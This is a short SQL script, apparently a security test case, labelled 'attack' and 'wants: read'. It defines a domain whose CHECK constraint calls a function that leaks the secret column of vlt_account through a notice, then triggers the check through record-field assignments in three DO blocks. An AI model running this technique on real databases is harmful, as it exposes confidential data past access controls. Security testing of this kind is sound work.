-- Assigns to a record that has the row type of what a function returns, a domain in it.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE) OR VALUE IS NULL);
CREATE TYPE pair AS (a int, b told);
CREATE FUNCTION pair_of() RETURNS pair LANGUAGE sql AS 'SELECT NULL::pair';
DO $$ DECLARE r record; BEGIN SELECT * INTO r FROM pair_of(); r.b := 'x'; END $$;
DO $$ DECLARE r record; BEGIN r := pair_of(); r.b := 'x'; END $$;
DO $$ DECLARE r record; BEGIN FOR r IN SELECT p.* FROM pair_of() p LOOP r.b := 'y'; END LOOP; END $$;
